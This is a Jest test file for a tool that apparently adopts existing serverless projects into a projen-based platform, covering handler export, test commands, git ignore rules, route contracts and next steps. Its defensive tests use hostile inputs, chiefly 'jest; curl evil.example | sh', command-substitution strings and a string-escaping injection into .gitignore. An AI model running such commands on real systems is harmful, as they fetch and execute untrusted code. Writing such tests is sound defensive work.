import { keepGitFiles } from '../../src/adopt/keep-git-files';
import { keepTests } from '../../src/adopt/keep-tests';
import { nextStepsOf } from '../../src/adopt/next-steps';
import { addDependencies, readPackage } from '../../src/adopt/package-facts';
import { NOTHING } from '../../src/adopt/reading';
import { seedContract } from '../../src/adopt/seed-contract';
import { seedHandler } from '../../src/adopt/seed-handler';
import { repositoryWith } from './support';

const from = { file: 'template.yaml', line: 1 };

describe('the handler', () => {
  const seedOf = (files: Record<string, string>, modules: string[], exportName = 'run') =>
    seedHandler({ ...NOTHING, handler: { modules, exportName, from } }, repositoryWith(files).files);

  test.each([
    ['src/app.ts', 'src/app', "export { run as handler } from './app';"],
    ['app.ts', 'app', "export { run as handler } from '../app';"],
    ['src/a/b.js', 'src/a/b', "export { run as handler } from './a/b';"],
    ['app.mjs', 'app', "export { run as handler } from '../app.mjs';"],
  ])('in %s is exported under the platform’s name', (path, module, line) => {
    const seed = seedOf({ [path]: '' }, ['elsewhere', module]);
    expect(seed.text).toContain(line);
    expect(seed.isJavaScript).toBe(path.endsWith('js'));
  });

  test.each([
    ['nothing', {}, /none was found \(looked for src\/app\)/],
    ['an entry in JavaScript', { 'src/index.js': '' }, /none was found/],
    [
      'an entry that exports something else',
      { 'src/index.ts': 'export const run = 1;' },
      /export \{ run as handler \};/,
    ],
  ])('that is %s is a next step', (_, files, step) => {
    const seed = seedOf(files, ['src/app']);
    expect(seed.text).toBeUndefined();
    expect(seed.nextStep).toMatch(step);
  });

  test('that is in src/index.js is to be renamed', () => {
    expect(seedOf({ 'src/index.js': '' }, ['src/index']).nextStep).toBe(
      'Rename src/index.js to src/index.ts, and let it export `handler`.',
    );
  });

  test.each([
    'export const handler = 1;',
    'export async function handler() {}',
    'export { run as handler };',
  ])('of the team stays: %s', (text) => {
    expect(seedOf({ 'src/index.ts': text }, [])).toEqual({ isThere: true, isJavaScript: false });
  });
});

describe('tests', () => {
  const keep = (files: Record<string, string>, test: string, devDependencies = {}) => {
    const facts = readPackage(JSON.stringify({ scripts: { test }, devDependencies }), 'package.json');
    return keepTests(repositoryWith(files).files, facts);
  };

  test.each(['jest', 'jest --coverage --maxWorkers=2', 'vitest run', 'node --import tsx --test tests/*.ts'])(
    'run as before with %s',
    (command) => {
      const { customisations, seed } = keep({ '__tests__/a.js': '' }, command);
      expect(customisations[0]?.code).toBe(`project.testTask.reset('${command}', { receiveArgs: true });`);
      expect(seed).toBeUndefined();
    },
  );

  test.each(['jest; curl evil.example | sh', 'jest $(id)', "jest 'a'", 'npm run lint && jest', 'jest\nid'])(
    'are not run with a command that a shell reads otherwise: %j',
    (command) => {
      const { customisations, nextStep } = keep({ 'tests/a.js': '' }, command);
      expect(customisations).toEqual([]);
      expect(nextStep).toContain('project.testTask.reset');
    },
  );

  test('that the platform’s own command runs need nothing', () => {
    expect(keep({ 'test/a.test.ts': '' }, 'npm run all-tests')).toEqual({ customisations: [] });
  });

  test('have their global names where they use some', () => {
    const { customisations } = keep({ 'test/a.test.ts': '' }, 'jest', { '@types/jest': '^30.0.0' });
    expect(customisations[1]?.code).toContain(`('compilerOptions.types', ['node', 'jest'])`);
  });

  test('begin with one where there is none', () => {
    expect(keep({}, 'echo no').seed).toContain('the service has a handler');
  });
});

describe('.gitignore and .gitattributes', () => {
  const keep = (ignore: string, attributes = '') => {
    const { folder, files } = repositoryWith({ '.gitignore': ignore, '.gitattributes': attributes });
    const rendered = new Map([
      ['.gitignore', 'node_modules/\ndist/\n'],
      ['tsconfig.json', ''],
      ['.gitattributes', '* text=auto eol=lf\n'],
    ]);
    return keepGitFiles(folder, files, rendered);
  };

  test('go on as lines of the definition, without those that the platform has', () => {
    const { customisations } = keep('# mine\n\n.serverless/\nnode_modules\n!keep.me\n', '*.png binary\n');
    expect(customisations.map(({ code }) => code)).toEqual([
      "project.gitignore.addPatterns('.serverless/', '!keep.me');",
      "project.gitattributes.addAttributes('*.png', 'binary');",
    ]);
  });

  test('do not hide what is committed', () => {
    const { customisations, leftovers } = keep('*.json\n');
    expect(customisations).toEqual([]);
    expect(leftovers).toMatchObject([
      { what: '*.json', why: expect.stringContaining('tsconfig.json'), at: { line: 1 } },
    ]);
  });

  test('cannot end the text that they become', () => {
    const { customisations } = keep("a'); process.exit(1); ('b\n");
    expect(customisations[0]?.code).toBe("project.gitignore.addPatterns('a\\'); process.exit(1); (\\'b');");
  });
});

describe('routes', () => {
  test('become a contract, with the parameters of their paths', () => {
    const { text } = seedContract('fares', [{ method: 'get', path: '/fares/{id}', from }]);
    expect(text).toMatch(
      /\/fares\/\{id\}:\n {4}# template\.yaml:1\n {4}get:\n {6}parameters:\n {8}- name: id/,
    );
  });

  test.each([
    ['any', '/a'],
    ['get', '/{proxy+}'],
    ['get', '/a b'],
    ['__proto__', '/a'],
  ])('%s %s is left, as a contract cannot say it', (method, path) => {
    const { text, leftovers } = seedContract('fares', [{ method, path, from }]);
    expect([text, leftovers.length]).toEqual([undefined, 1]);
  });
});

describe('next steps', () => {
  const steps = (files: Record<string, string>) => nextStepsOf(repositoryWith(files).files, []).join('\n');

  test('name what npx projen would refuse, with its line', () => {
    const text = 'jobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n';
    expect(steps({ '.github/workflows/ci.yml': text })).toMatch(
      /Mend \.github\/workflows\/ci\.yml[^]*ci\.yml:4:15 {2}actions\/checkout@v4 can be moved/,
    );
  });

  test.each([
    ['yarn.lock', '', /Remove yarn\.lock/],
    ['.github/workflows/cd.yml', 'run: npx serverless deploy', /Remove \.github\/workflows\/cd\.yml when/],
    ['renovate.json', '{}', /dependencyUpdates: 'renovate'/],
    ['.github/dependabot.yml', 'version: 2', /dependencyUpdates: 'dependabot'/],
  ])('%s', (path, text, step) => {
    expect(steps({ [path]: text })).toMatch(step);
  });
});

test('dependencies are added to a package.json in the form that it has', () => {
  const text = '{\r\n\t"dependencies": { "zod": "^4.0.0" }\r\n}\r\n';
  const added = addDependencies(text, { dependencies: { zod: '1.0.0' }, devDependencies: { tsx: '^4.0.0' } });
  expect(added).toMatch(/^\{\r\n\t"dependencies"/);
  expect(added.replaceAll('\r\n', '')).not.toContain('\n');
  expect(JSON.parse(added)).toEqual({ dependencies: { zod: '^4.0.0' }, devDependencies: { tsx: '^4.0.0' } });
});
